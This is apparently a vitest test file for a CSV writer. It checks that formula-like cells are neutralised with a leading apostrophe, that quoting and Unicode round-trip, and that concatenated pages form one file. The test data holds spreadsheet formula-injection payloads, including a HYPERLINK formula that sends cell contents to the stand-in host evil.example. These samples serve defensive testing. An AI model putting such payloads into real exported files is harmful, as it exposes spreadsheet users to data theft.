import { parse } from "csv-parse/sync";
import { expect, test } from "vitest";
import { writeCsv } from "./write-csv";

const dangerous = [
  '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  "+1+1",
  "-2+3",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\uFF1D1+1",
  "\uFF0B1",
  "\uFF0D1",
  "\uFF201",
];
const begins = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;

test("no cell and no heading begins as a formula would, and what was written can still be read", () => {
  const columns = dangerous.map((heading, index) => ({
    heading,
    tell: (row: readonly string[]) => row[index] ?? null,
  }));
  const rows: string[][] = parse(writeCsv(columns, [dangerous], { head: true }), {
    bom: true,
    record_delimiter: "\r\n",
  });
  expect(rows).toHaveLength(2);
  for (const cell of rows.flat()) expect(cell).not.toMatch(begins);
  expect(rows[0]).toEqual(rows[1]);
  expect(rows[1]).toEqual(dangerous.map((text) => (text.startsWith("\n") ? "'=1+1" : `'${text}`)));
});

test("quotes, commas, line breaks and other letters come back as they were; numbers stay numbers", () => {
  const names = ['Anna "Ann" O\'Neill', "Müller, Jörg", "two\r\nlines", "見る 💐", ""];
  const columns = [
    { heading: "Name", tell: (name: string) => name },
    { heading: "Total", tell: () => -0.5 },
    { heading: "None", tell: () => null },
  ];
  const text = writeCsv(columns, names, { head: true });
  expect(text.startsWith("\uFEFFName,Total,None\r\n")).toBe(true);
  const rows: string[][] = parse(text, { bom: true, from: 2 });
  expect(rows).toEqual(names.map((name) => [name, "-0.5", ""]));
});

test("pages put one after the other are one file", () => {
  const columns = [{ heading: "Number", tell: (number: number) => number }];
  const pages = [writeCsv(columns, [1, 2], { head: true }), writeCsv(columns, [3], { head: false })];
  const rows: string[][] = parse(pages.join(""), { bom: true, from: 2 });
  expect(rows.flat()).toEqual(["1", "2", "3"]);
});
